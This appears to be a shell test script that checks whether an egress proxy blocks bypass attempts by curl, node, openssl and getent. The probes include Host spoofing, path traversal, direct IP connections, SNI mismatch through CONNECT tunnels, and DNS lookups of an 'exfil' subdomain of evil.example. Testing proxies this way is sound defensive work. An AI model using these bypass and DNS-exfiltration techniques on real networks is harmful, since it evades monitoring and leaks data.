# The same with the tools that people have: curl's own ways round a proxy, node, openssl, the resolver.
t() { name=$1; shift; printf 'ZOO {"tool %s": "%s"}\n' "$name" "$("$@" 2>/dev/null | tr -d '"\\\n' | head -c 200)"; }
code() { curl -s -m 8 -o /dev/null -w '%{http_connect} %{http_code}' "$@"; }
t 'curl path' code --path-as-is https://inspected.example/pub/../private
t 'curl host' code -H 'Host: evil.example' https://inspected.example/pub/x
t 'curl connect-to' code --connect-to inspected.example:443:evil.example:443 https://inspected.example/pub/x
t 'curl resolve' code --noproxy '*' --resolve inspected.example:443:127.0.0.1 https://inspected.example/pub/x
t 'curl socks' code --noproxy '' -x socks5h://127.0.0.1:3128 https://inspected.example/pub/x
t 'curl method' code -X DELETE https://inspected.example/pub/x
t 'curl redirect' code -L http://plain.example/redirect
t 'curl direct' code --noproxy '*' http://1.1.1.1/
t 'curl dns' code --noproxy '*' https://exfil-0123456789abcdef.evil.example/
t 'getent' getent hosts exfil-0123456789abcdef.evil.example
t 'node direct' node -e 'require("net").connect(443, "1.1.1.1").on("connect", () => console.log("open")).on("error", e => console.log(e.code))'
t 'node dns' node -e 'require("dns").resolve("exfil-0123456789abcdef.evil.example", (e, a) => console.log(e ? e.code : a))'
t 'node upgrade' node -e 'require("http").get({host: "127.0.0.1", port: 3128, path: "http://plain.example/pub/ws", headers: {host: "plain.example", connection: "upgrade", upgrade: "websocket"}}, r => console.log(r.statusCode)).on("upgrade", () => console.log("open")).on("error", e => console.log(e.code))'
t 'node sni' node -e '
require("http").request({host: "127.0.0.1", port: 3128, method: "CONNECT", path: "tunnel.example:443"}).on("connect", (r, socket) =>
    require("tls").connect({socket, servername: "second.example", rejectUnauthorized: false}, () => console.log("open")).on("error", e => console.log(e.code))).end()'
t 'openssl sni' sh -c 'openssl s_client -proxy 127.0.0.1:3128 -connect tunnel.example:443 -servername second.example </dev/null | grep -c "BEGIN CERTIFICATE"'
t 'openssl good' sh -c 'openssl s_client -proxy 127.0.0.1:3128 -connect tunnel.example:443 -servername tunnel.example </dev/null | grep -c "BEGIN CERTIFICATE"'
t 'curl good' code https://inspected.example/pub/good
